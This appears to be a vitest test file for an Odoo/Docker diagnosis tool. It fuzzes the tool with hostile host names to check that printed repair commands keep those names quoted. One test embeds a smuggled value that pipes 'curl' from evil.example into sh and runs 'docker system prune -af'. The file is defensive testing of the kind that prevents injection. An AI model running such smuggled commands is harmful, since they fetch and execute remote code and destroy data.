// Every command that a summary prints, taken from the rendered page and typed into the real sh: whatever a host calls its
// containers, folders and databases, it runs what it says with these names as they are, and nothing else.

import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fetchLine } from "../../src/backup/fetch.ts";
import type { Diagnosis } from "../../src/diagnosis/diagnosis.ts";
import type { RemedyName } from "../../src/diagnosis/remedy-name.ts";
import { AREAS } from "../../src/diagnosis/signatures/catalogue.ts";
import { typed } from "../../src/host/typed.ts";
import { type BackupMade, type Entry, type Event, recordOf } from "../../src/journal.ts";
import { isPlainLine } from "../../src/lib/line.ts";
import { REMEDIES } from "../../src/remedies/index.ts";
import { commandsIn, FIXED_COMMANDS, spansOf } from "../../src/report/commands.ts";
import { summaryOf } from "../../src/report/summary.ts";
import { seen } from "../../src/survey/survey.ts";
import {
  activity,
  asset,
  BAD_GATEWAY,
  BUNDLES,
  database,
  db,
  diagnosisOf as diagnosisOfShop,
  filestore,
  GONE,
  odoo,
  odooDatabase,
  pageAssets,
  running,
  session,
  TIMED_OUT,
} from "../diagnosis/surveys.ts";
import { containerOf, diagnosisOf } from "../remedies/support.ts";
import { HOSTILE, shellText } from "../support/hostile.ts";
import { temporaryDirectory } from "../support/hosts.ts";
import { blockAfter, blocksIn, commandsShown } from "../support/rendered.ts";

let home: ReturnType<typeof temporaryDirectory>;
let bin: string;
let empty: string;

/** Programs that note how they were called; what a name could smuggle in is among them. */
const STAND_INS = [
  "docker",
  "systemctl",
  "nginx",
  "ssh",
  "sudo",
  "kill",
  "touch",
  "cat",
  "rm",
  "false",
  "curl",
];

beforeAll(() => {
  home = temporaryDirectory();
  bin = join(home.path, "bin");
  empty = join(home.path, "empty");
  mkdirSync(bin);
  for (const name of STAND_INS) {
    const more = name === "docker" ? 'if [ "$1" = top ]; then printf "PID\\n12\\n13\\n"; fi' : "";
    writeFileSync(
      join(bin, name),
      `#!/bin/sh\n{ printf '%s\\0' ${name} "$@"; printf '\\n\\0'; } >>'${home.path}/calls'\n${more}\n`,
    );
    chmodSync(join(bin, name), 0o755);
  }
  // These two a command of ours needs as they are.
  for (const name of ["tail", "xargs"]) {
    writeFileSync(join(bin, name), `#!/bin/sh\nPATH=$PATH:/usr/bin:/bin exec /usr/bin/${name} "$@"\n`);
    chmodSync(join(bin, name), 0o755);
  }
});
afterAll(() => home[Symbol.dispose]());

/** Types a command. @returns the words of each call, as the programs were given them */
function typedIn(command: string): { calls: string[][]; written: string[] } {
  rmSync(join(home.path, "calls"), { force: true });
  rmSync(empty, { recursive: true, force: true });
  mkdirSync(empty);
  const { status, stderr } = spawnSync("/bin/sh", ["-c", command], {
    cwd: empty,
    env: { PATH: bin, LC_ALL: "C.UTF-8" },
    input: "",
    encoding: "utf8",
  });
  expect({ status, stderr }, command).toEqual({ status: 0, stderr: "" });
  const noted = existsSync(join(home.path, "calls")) ? readFileSync(join(home.path, "calls"), "utf8") : "";
  const calls = noted
    .split("\0\n\0")
    .filter((call) => call !== "")
    .map((call) => call.split("\0"));
  return { calls, written: readdirSync(empty) };
}

const entriesOf = (...events: readonly Event[]): Entry[] =>
  events.map((event) => ({ ...event, at: "", ms: 0 }));

/** The page of a check that ends with this diagnosis. */
function pageOf(diagnosis: Diagnosis, ...more: readonly Event[]): string {
  return summaryOf(
    entriesOf({ kind: "diagnosed", diagnosis: recordOf(diagnosis) }, ...more, {
      kind: "concluded",
      status: "unhealthy",
      headline: "it is",
      detail: diagnosis.finding,
      next: `By hand: ${diagnosis.advice}`,
    }),
    "",
  );
}

function pageOfStep(remedy: RemedyName, diagnosis: Diagnosis): string {
  const commands = typed(() => REMEDIES[remedy].commands(diagnosis));
  const step = { remedy, risk: "restart", backup: false, does: "does it", commands } as const;
  return pageOf(diagnosis, { kind: "foreseen", steps: [step] });
}

/** Whether a name may stand in a command at all. */
const fits = (name: string): boolean =>
  name !== "" && !name.startsWith("-") && isPlainLine(name) && name.length < 500;
const hostileName = fc.oneof(fc.constantFrom(...HOSTILE.filter((text) => text.length < 500)), shellText);
const shortName = hostileName.filter((name) => name.length < 250);

const compose = (name: string): string[] => [
  ...["docker", "compose", "--file", name, "--env-file", name],
  ...["--project-name", name, "--project-directory", name],
];
const UP = ["up", "--detach", "--no-recreate", "--no-build", "--pull", "never"];
const NAMED = {
  name: "shop_notes",
  version: "14.0.1.0",
  state: "installed",
  dependents: [],
  tables: [],
  columns: [],
} as unknown as NonNullable<Diagnosis["named"]>;

/** A diagnosis in which everything that the host names is called like that. */
function called(name: string, more: Partial<Diagnosis> = {}, odooState = "running"): Diagnosis {
  const container = containerOf("odoo", { name, state: odooState, command: ["odoo", `--x=${name}`] });
  const target = diagnosisOf().target;
  if (target === undefined) throw new Error("no target");
  return {
    ...diagnosisOf({
      project: {
        ...target.project,
        name,
        directory: name,
        files: [name],
        environmentFiles: [name],
      },
      odooService: name,
      dbService: name,
      odoo: container,
      db: containerOf("db", { name, state: "exited" }),
      database: seen(name),
      containers: [container],
    }),
    setup: { user: name, dataDirectory: name, filestore: name, version: "16.0" },
    ...more,
  };
}

const shell = (name: string): string[] => [
  ...[...compose(name), "exec", "-T", name, "/entrypoint.sh", "odoo", "shell"],
  ...[`--x=${name}`, `--database=${name}`, "--no-http", "--workers=0"],
];

/** What each remedy's commands call. */
const STEPS: readonly (readonly [
  RemedyName,
  string,
  (name: string) => Diagnosis,
  (name: string) => string[][],
])[] = [
  ["start-docker", "", called, () => [["systemctl", "start", "docker.socket", "docker.service"]]],
  [
    "start-nginx",
    "",
    called,
    () => [
      ["nginx", "-t"],
      ["systemctl", "start", "nginx"],
    ],
  ],
  ["start-db", "that is stopped", called, (name) => [["docker", "start", name]]],
  [
    "start-db",
    "without a container",
    (name) => {
      const diagnosis = called(name);
      return { ...diagnosis, target: diagnosis.target && { ...diagnosis.target, db: undefined } };
    },
    (name) => [[...compose(name), ...UP, name]],
  ],
  ["start-stack", "", called, (name) => [[...compose(name), ...UP, "--no-deps", name]]],
  [
    "resume-odoo",
    "that is paused",
    (name) => called(name, {}, "paused"),
    (name) => [["docker", "unpause", name]],
  ],
  [
    "resume-odoo",
    "whose processes are stopped",
    called,
    (name) => [
      ["docker", "top", name, "-o", "pid"],
      ["kill", "-CONT", "12", "13"],
    ],
  ],
  ["restart-odoo", "", called, (name) => [["docker", "restart", "--time", "30", name]]],
  [
    "boot-check",
    "",
    called,
    (name) => [
      [
        ...[...compose(name), "run", "--rm", "--no-deps", "-T", name, "odoo", `--x=${name}`],
        ...[`--database=${name}`, "--no-http", "--stop-after-init", "--max-cron-threads=0"],
      ],
    ],
  ],
  [
    "fix-permissions",
    "",
    (name) => called(name, { setup: { user: "101:101", dataDirectory: name, filestore: name, version: "" } }),
    (name) => [
      [
        ...["docker", "exec", "-u", "0", name, "find", name, "-xdev", "!", "-user", "101"],
        ...["-exec", "chown", "-h", "101:101", "{}", "+"],
      ],
    ],
  ],
  ["regenerate-assets", "", called, (name) => [shell(name)]],
  [
    "module",
    "to update",
    (name) => called(name, { module: { name: "shop_notes", action: "update" }, named: NAMED }),
    (name) => [
      [...shell(name).filter((word) => word !== "shell"), "--update=shop_notes", "--stop-after-init"],
      ["docker", "restart", "--time", "30", name],
    ],
  ],
  [
    "module",
    "to uninstall",
    (name) => called(name, { module: { name: "shop_notes", action: "uninstall" }, named: NAMED }),
    (name) => [shell(name), ["docker", "restart", "--time", "30", name]],
  ],
];

describe("what a step would run, as it is printed", () => {
  it.each(STEPS)(
    "is run with the names as they are: %s %s",
    (remedy, _, diagnosis, calls) => {
      fc.assert(
        fc.property(hostileName, (name) => {
          const shown = commandsShown(pageOfStep(remedy, diagnosis(name)));
          if (shown.length === 0) {
            expect(fits(name), JSON.stringify(name)).toBe(false);
            return;
          }
          expect(shown).toHaveLength(1);
          // A pipe's programs are noted as they come.
          expect(typedIn(shown[0] ?? "").calls.sort()).toEqual(calls(name).sort());
        }),
        { numRuns: 40 },
      );
    },
    120_000,
  );

  it("is shown for every name that fits", () => {
    for (const name of HOSTILE.filter((text) => text.length < 500)) {
      const { length } = commandsShown(pageOfStep("restart-odoo", called(name)));
      expect(length, JSON.stringify(name)).toBe(fits(name) ? 1 : 0);
    }
  });

  it("is a program where nobody could type it: wipe-assets", () => {
    const page = pageOfStep("wipe-assets", called("shop"));
    expect(commandsShown(page)).toEqual([]);
    expect(page).toContain("`mode: plan` prints whole");
  });
});

const [CSS] = BUNDLES;
if (CSS === undefined) throw new Error("no bundle");
const gone = pageAssets(...BUNDLES.map((each) => asset(each, GONE)));
const rows = (version: string) =>
  database(
    seen(activity({ odoo: [odooDatabase("odoo", { odooVersion: version, bundles: seen(BUNDLES) })] })),
  );
const missing = seen([
  filestore({ bundles: filestore().bundles.map((file) => ({ ...file, state: "missing" as const })) }),
]);
const REGENERATE = ["docker", "exec", "-i"];
const SHELL = ["/entrypoint.sh", "odoo", "shell", "-d", "odoo", "--no-http"];

/** Advice in which a name of the host stands, and what its commands call. */
const ADVICE: readonly (readonly [string, (name: string) => Diagnosis, (name: string) => string[][]])[] = [
  [
    "filestore-unreadable",
    (name) =>
      diagnosisOfShop({
        containers: [odoo({ name }), db()],
        page: gone,
        running: seen(new Map([["odoo-ce-odoo-id", running({ dataDirectory: name })]])),
        files: seen([filestore({ readable: false, writable: false, owner: "0:0 700" })]),
      }),
    (name) => [["docker", "exec", "-u", "0", name, "chown", "-R", "101:101", name]],
  ],
  [
    "assets-missing",
    (name) =>
      diagnosisOfShop({
        containers: [odoo({ name }), db()],
        page: gone,
        databases: rows("16.0"),
        files: missing,
      }),
    (name) => [[...REGENERATE, name, ...SHELL]],
  ],
  [
    "assets-missing",
    (name) =>
      diagnosisOfShop({
        containers: [odoo({ name }), db()],
        page: gone,
        databases: rows("14.0"),
        files: missing,
      }),
    (name) => [[...REGENERATE, name, ...SHELL]],
  ],
  [
    "assets-stale",
    (name) =>
      diagnosisOfShop({
        containers: [odoo({ name }), db()],
        page: gone,
        databases: database(seen(activity({ odoo: [odooDatabase("odoo", { bundles: seen([]) })] }))),
      }),
    (name) => [["docker", "restart", name]],
  ],
  [
    "database-locked",
    (name) =>
      diagnosisOfShop({
        containers: [odoo(), db({ name })],
        direct: seen(TIMED_OUT),
        proxy: seen(BAD_GATEWAY),
        databases: database(
          seen(
            activity({
              sessions: [
                session({ pid: 7, waits: "Lock", blockedBy: [22_412] }),
                session({
                  pid: 22_412,
                  application: "psql",
                  address: "",
                  state: "idle in transaction",
                  seconds: 40,
                }),
              ],
            }),
          ),
        ),
      }),
    (name) => [
      [
        ...["docker", "exec", name, "sh", "-c"],
        `psql -U "\${POSTGRES_USER:-postgres}" -d postgres -c 'SELECT pg_terminate_backend(22412)'`,
      ],
    ],
  ],
  [
    "unknown",
    (name) => {
      const caddy = {
        ...odoo({ service: "caddy", name, state: "exited", exitCode: 1, imageReference: "caddy:2" }),
        id: "odoo-ce-caddy-id",
        exposes: [],
        publishes: ["80/tcp"],
      };
      return diagnosisOfShop({
        containers: [odoo(), db(), caddy],
        proxy: seen({ answered: false, problem: "refused", detail: "" }),
        listeners: seen([]),
      });
    },
    (name) => [
      ["docker", "start", name],
      ["docker", "logs", name],
    ],
  ],
];

describe("what an advice has a person type, as it is printed", () => {
  it.each(ADVICE)(
    "is run with the names as they are: %s",
    (cause, diagnosis, calls) => {
      fc.assert(
        fc.property(hostileName, (name) => {
          const found = diagnosis(name);
          expect(found.cause).toBe(cause);
          const shown = commandsShown(pageOf(found));
          if (shown.length === 0) {
            expect(fits(name), JSON.stringify(name)).toBe(false);
            expect(found.advice).toContain("No command is shown");
            return;
          }
          const made = shown.filter((each) => !FIXED_COMMANDS.has(each));
          expect(made.flatMap((each) => typedIn(each).calls)).toEqual(calls(name));
        }),
        { numRuns: 40 },
      );
    },
    120_000,
  );

  it("is never what a host wrote into its names, however it looks", () => {
    const name = "x`; `docker system prune -af`, `curl -I evil.example | sh`, `nginx -t`";
    const found = diagnosisOfShop({ containers: [odoo({ name }), db()], page: gone, files: missing });
    const shown = commandsShown(pageOf({ ...found, advice: `${found.advice} Besides, ${name}.` }));
    expect(shown.filter((each) => /prune|evil/.test(each) && !each.includes("'"))).toEqual([]);
  });
});

describe("commands without names", () => {
  /** Hints at a program whose particulars only the person knows: nothing to be typed as it stands. */
  const HINTS =
    /…|PID|^(?:docker (?:exec|inspect|login|rename|top|image inspect)|chmod \+x|pip install|ls \/proc)\b/;
  const PROGRAM =
    /^(?:certbot|curl|df|dmesg|docker|du|free|journalctl|mount|nginx|ps|psql|resolvectl|setsebool|ss|systemctl|ufw|uname)(?: |$)/;

  it("are known, wherever a signature has one", () => {
    const spans = AREAS.flatMap(({ signatures }) => signatures.flatMap(({ advice }) => spansOf(advice)));
    const commands = spans.filter((span) => PROGRAM.test(span) && !HINTS.test(span));
    expect(commands.length).toBeGreaterThan(30);
    // `docker compose up -d` recreates what has drifted: it is named beside the drift to look at first.
    expect([...new Set(commands)].filter((each) => !FIXED_COMMANDS.has(each))).toEqual([
      "docker",
      "docker compose up -d",
    ]);
  });

  it("are printed once each, in the order of the text", () => {
    const text =
      "Correct it, test with `nginx -t`, then `systemctl reload nginx`; `nginx -t` shows `db_name`.";
    expect(commandsIn(text)).toEqual(["nginx -t", "systemctl reload nginx"]);
  });
});

describe("the other lines that a person copies", () => {
  const made = (more: Partial<BackupMade>): BackupMade => ({
    database: "odoo",
    onDroplet: "/x/odoo.dump",
    onRunner: undefined,
    fetch: "",
    bytes: 1,
    sha256: "ab",
    seconds: 1,
    tables: 1,
    filestore: undefined,
    ...more,
  });
  const pageWith = (backup: BackupMade): string =>
    summaryOf(entriesOf({ kind: "backup-ended", step: "s", outcome: "done", backup }), "");

  it("fetch a backup with the names as they are, by ssh and by the shell behind it", () => {
    fc.assert(
      // Quoted twice, a longer one makes a command that is longer than anybody types, and is not shown.
      fc.property(shortName, shortName, (user, folder) => {
        const path = `/var/${folder}/odoo.dump`;
        const target = { host: "erp.example.com", port: 2222, login: { username: user }, pins: [] };
        const fetch = fetchLine(
          path,
          "odoo-0badf00d-1-backup.dump",
          { kind: "ssh", target, connectTimeoutMs: 1 },
          "sudo",
        );
        const [shown] = commandsShown(pageWith(made({ onDroplet: path, fetch })));
        if (shown === undefined) {
          expect(fits(`${user}@`) && isPlainLine(folder), JSON.stringify([user, folder])).toBe(false);
          return;
        }
        const { calls, written } = typedIn(shown);
        expect(written).toEqual(["odoo-0badf00d-1-backup.dump"]);
        const [[, , port, address, ...remote] = []] = calls;
        expect([port, address]).toEqual(["2222", `${user}@erp.example.com`]);
        expect(typedIn(remote.join(" ")).calls).toEqual([["sudo", "-n", "cat", path]]);
      }),
      { numRuns: 60 },
    );
  }, 120_000);

  it("hold an @ as it is, and no character that nobody sees", () => {
    const fetch = "ssh deploy@erp.example.com sudo -n cat /x/odoo.dump >odoo.dump";
    const page = pageWith(made({ fetch }));
    expect(blockAfter(page, "To fetch it")).toBe(fetch);
    expect(page).not.toContain("\u200b");
  });

  it("are whole, or not there: a page that is too long loses whole parts", () => {
    const name = "n".repeat(7_000);
    const page = pageOf(
      called(name),
      { kind: "foreseen", steps: [] },
      { kind: "note", text: "x".repeat(300_000) },
      ...Array.from({ length: 400 }, (): Event => ({ kind: "remedy-output", text: "`".repeat(600) })),
    );
    expect(blocksIn(page).every(({ language }) => language === "sh" || language === "text")).toBe(true);
    const [long] = commandsShown(pageOfStep("restart-odoo", called(name)));
    expect(long).toBe(`docker restart --time 30 ${name}`);
    expect(commandsShown(pageOfStep("start-stack", called(name)))).toEqual([]);
  });

  it("pin the host key that was offered, where nothing else of the host was seen", () => {
    const line = `fingerprint: SHA256:${"A".repeat(43)}`;
    const refused = (...before: readonly Event[]): string =>
      summaryOf(
        entriesOf(...before, {
          kind: "concluded",
          status: "refused",
          headline: "No host key is pinned",
          detail: "Offered: x",
          next: `Check it: \`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub\`. If it shows the same, set \`${line}\`.`,
        }),
        "",
      );
    expect(blocksIn(refused()).map(({ text }) => text)).toEqual([
      "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
      line,
      "Offered: x",
    ]);
    const later = refused({ kind: "connected", host: "erp", identity: "x" });
    expect(blocksIn(later).map(({ text }) => text)).not.toContain(line);
  });
});
